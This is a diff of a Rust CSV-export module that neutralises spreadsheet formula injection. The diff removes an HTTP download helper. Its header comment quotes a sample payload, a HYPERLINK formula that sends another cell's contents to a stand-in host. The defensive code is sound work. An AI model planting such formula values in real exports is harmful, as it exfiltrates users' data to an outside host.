@@ -3,9 +3,6 @@
 //! as a formula. Names, ids and messages come from users and from Asterisk, so a name such as
 //! `=HYPERLINK("http://x/?"&B2)` must arrive as text.
 
-use axum::http::header;
-use axum::response::{IntoResponse, Response};
-
 /// A cell starting with one of these is a formula (or becomes one) in Excel, LibreOffice and Sheets.
 const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
 
@@ -38,19 +35,6 @@ where
         let _ = w.write_record(row.into_iter().map(|c| defused(c.as_ref()).into_owned()));
     }
     w.into_inner().unwrap_or_default()
-}
-
-/// The download of a file made by [`table`], under `filename`.
-pub fn download(filename: &'static str, body: Vec<u8>) -> Response {
-    let disposition = format!("attachment; filename=\"{filename}\"");
-    (
-        [
-            (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_string()),
-            (header::CONTENT_DISPOSITION, disposition),
-        ],
-        body,
-    )
-        .into_response()
 }
 
 #[cfg(test)]
